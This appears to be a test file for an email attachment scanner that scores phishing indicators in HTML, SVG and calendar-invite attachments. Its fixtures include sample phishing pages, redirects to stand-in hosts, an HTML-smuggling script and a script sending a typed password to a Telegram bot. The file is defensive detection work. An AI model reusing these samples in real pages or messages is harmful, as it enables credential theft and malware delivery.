import { address, attachment, finding, ids, scan, scanFile, subjectWith } from './helpers';

const ICS = (lines: string[]): string => ['BEGIN:VCALENDAR', 'METHOD:REQUEST', 'BEGIN:VEVENT', ...lines, 'END:VEVENT', 'END:VCALENDAR'].join('\r\n');

describe('HTML attachments', () => {
  it('attachments.html_credential_form: a local login page', async () => {
    const output = await scanFile('Secure_Message.html', '<form action="https://collect.example/login.php" method="post"><input name="u"><input type="password" name="p"></form>', 'text/html');
    expect(finding(output, 'attachments.html_credential_form')).toMatchObject({ score: 85, evidence: ['Secure_Message.html: password field; form posts to https://collect.example/login.php'] });
    expect(output.iocs?.domains).toContain('collect.example');
  });

  it('attachments.html_form: a form posting to a website without a password field', async () => {
    expect(finding(await scanFile('verify.htm', '<form action="https://collect.example/x"><input name="card"></form>', 'text/html'), 'attachments.html_form')?.score).toBe(45);
  });

  it('attachments.html_redirect: meta refresh (70), window.open (50), full-page frame (50)', async () => {
    expect(finding(await scanFile('fax.html', '<meta http-equiv="refresh" content="0;url=https://phish.example/">', 'text/html'), 'attachments.html_redirect')?.score).toBe(70);
    expect(finding(await scanFile('fax.html', '<script>window.open("https://phish.example/")</script>'), 'attachments.html_redirect')?.score).toBe(50);
    expect(finding(await scanFile('fax.html', '<iframe src="https://phish.example/" style="width:100%;height:100%"></iframe>'), 'attachments.html_redirect')?.score).toBe(50);
  });

  it('attachments.html_smuggling and attachments.html_obfuscated_script', async () => {
    const smuggler = '<script>const d = atob(p); const b = new Blob([d]); navigator.msSaveOrOpenBlob(b, "x.iso");</script>';
    expect(finding(await scanFile('doc.html', smuggler), 'attachments.html_smuggling')?.score).toBe(85);
    const packed = `<script>eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|'),0,{}))</script>`;
    expect(finding(await scanFile('doc.html', packed), 'attachments.html_obfuscated_script')?.score).toBe(60);
  });

  it('attachments.html_exfiltration: script that posts to a Telegram bot', async () => {
    const page = '<input type="password" id="p"><script>fetch("https://api.telegram.org/bot1:AA/sendMessage?text=" + p.value)</script>';
    const output = await scanFile('login.html', page);
    expect(ids(output)).toEqual(expect.arrayContaining(['attachments.html_credential_form', 'attachments.html_exfiltration']));
    expect(output.score).toBeGreaterThanOrEqual(95);
  });

  it('attachments.html_script: script alone is low', async () => {
    const output = await scanFile('report.html', '<html><body><table id="t"></table><script>sortTable("t")</script></body></html>');
    expect(output.findings).toEqual([expect.objectContaining({ id: 'attachments.html_script', score: 15, severity: 'low' })]);
  });

  it('a plain HTML receipt raises nothing', async () => {
    expect((await scanFile('receipt.html', '<html><body><h1>Receipt</h1><a href="https://shop.example.com/">Shop</a></body></html>', 'text/html')).findings).toEqual([]);
  });
});

describe('SVG attachments', () => {
  it('attachments.svg_script: script or event handlers 75, HTML inside the image 50', async () => {
    expect(finding(await scanFile('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example"</script></svg>', 'image/svg+xml'), 'attachments.svg_script')?.score).toBe(75);
    expect(finding(await scanFile('logo.svg', '<svg onload="go()"/>'), 'attachments.svg_script')?.score).toBe(75);
    expect(finding(await scanFile('logo.svg', '<svg><foreignObject><div>Sign in</div></foreignObject></svg>'), 'attachments.svg_script')?.score).toBe(50);
  });

  it('a plain SVG image raises nothing', async () => {
    expect((await scanFile('chart.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"/></svg>', 'image/svg+xml')).findings).toEqual([]);
  });
});

describe('calendar invitations', () => {
  const lure = ICS(['SUMMARY:Password expires today', 'ORGANIZER:mailto:it@outside.example', 'DESCRIPTION:Keep your password: https://keep-password.example/'] );

  it('attachments.ics_lure: lure wording with a link that is not a meeting join link', async () => {
    const output = await scanFile('invite.ics', lure, 'text/calendar');
    expect(finding(output, 'attachments.ics_lure')).toMatchObject({ score: 45 });
    expect(output.iocs?.urls).toEqual(['https://keep-password.example/']);
  });

  it('an ordinary meeting with a Teams/Zoom link and an agenda raises nothing', async () => {
    const meeting = ICS(['SUMMARY:Quarterly planning', 'ORGANIZER:mailto:alice@partner.example', 'DESCRIPTION:Agenda: budget, hiring.\\nJoin: https://zoom.us/j/123456', 'LOCATION:https://teams.microsoft.com/l/meetup-join/x']);
    expect((await scanFile('invite.ics', meeting, 'text/calendar')).findings).toEqual([]);
  });

  it('one ordinary word does not make a lure; two weak ones with a link do', async () => {
    const weak = ICS(['SUMMARY:Invoice payment overdue', 'DESCRIPTION:Details: https://billing.example/x']);
    expect(finding(await scanFile('i.ics', weak, 'text/calendar'), 'attachments.ics_lure')).toBeDefined();
    const one = ICS(['SUMMARY:Invoice review', 'DESCRIPTION:Doc: https://docs.example/x']);
    expect(finding(await scanFile('i.ics', one, 'text/calendar'), 'attachments.ics_lure')).toBeUndefined();
  });

  it('attachments.ics_spoofed_organizer: an organiser of the organisation in an invite from outside', async () => {
    const invite = ICS(['SUMMARY:Sync', 'ORGANIZER;CN=CEO:mailto:ceo@acme-corp.com']);
    const file = await attachment('invite.ics', invite, 'text/calendar');
    const outside = await scan(subjectWith([file], { from: address('x@outside.example') }), {}, ['acme-corp.com']);
    expect(finding(outside, 'attachments.ics_spoofed_organizer')?.score).toBe(60);
    const inside = await scan(subjectWith([file], { from: address('ceo@acme-corp.com') }), {}, ['acme-corp.com']);
    expect(inside.findings).toEqual([]);
  });

  it('attachments.ics_remote_attachment: a URI attachment in an invite from outside only', async () => {
    const invite = ICS(['SUMMARY:Documents', 'ATTACH;FMTTYPE=application/pdf:https://files.example.net/doc.pdf']);
    const file = await attachment('invite.ics', invite, 'text/calendar');
    expect(finding(await scan(subjectWith([file], { from: address('a@outside.example') }), {}, ['acme-corp.com']), 'attachments.ics_remote_attachment')?.score).toBe(25);
    expect((await scan(subjectWith([file], { from: address('a@acme-corp.com') }), {}, ['acme-corp.com'])).findings).toEqual([]);
  });
});
